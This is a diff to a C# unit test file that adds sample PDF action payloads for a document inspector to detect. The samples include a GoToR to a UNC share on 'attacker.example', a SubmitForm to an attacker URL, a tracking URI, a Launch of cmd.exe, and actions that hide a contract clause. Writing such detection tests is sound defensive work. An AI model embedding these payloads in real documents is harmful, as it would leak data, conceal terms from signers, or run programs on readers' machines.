@@ -7,7 +7,14 @@ namespace ContractDocs.Tests.Intake;
 public sealed partial class DocumentInspectorTests
 {
     [Theory]
-    [InlineData("/OpenAction [3 0 R /Fit]", "<< >>", "OpenAction")]
+    [InlineData("/OpenAction 5 0 R", "<< /S /URI /URI (https://tracker.example.com/opened) >>", "OpenAction /URI")]
+    [InlineData("/OpenAction 3 0 R", "<< >>", "OpenAction")]
+    [InlineData("/Extra 5 0 R", "<< /S /GoToR /F (\\\\attacker.example\\share\\x.pdf) /D [0 /Fit] >>", "GoToR")]
+    [InlineData("/Extra 5 0 R", "<< /S /SubmitForm /F << /FS /URL /F (https://attacker.example/) >> >>", "SubmitForm")]
+    [InlineData("/Extra 5 0 R", "<< /S /ImportData /F (C:\\data.fdf) >>", "ImportData")]
+    [InlineData("/OpenAction << /S /SetOCGState /State [/OFF 5 0 R] >>", "<< /Type /OCG /Name (Clause 12) >>", "SetOCGState")]
+    [InlineData("/OpenAction << /S /Hide /T (Clause 12) >>", "<< >>", "Hide")]
+    [InlineData("/OpenAction << /S /ResetForm >>", "<< >>", "ResetForm")]
     [InlineData("/Names << /JavaScript 5 0 R >>", "<< /Names [] >>", "JavaScript")]
     [InlineData("/Extra << /JS (app.alert\\(1\\)) >>", "<< >>", "JS")]
     [InlineData("/Extra 5 0 R", "<< /S /Launch /F (cmd.exe) >>", "Launch")]
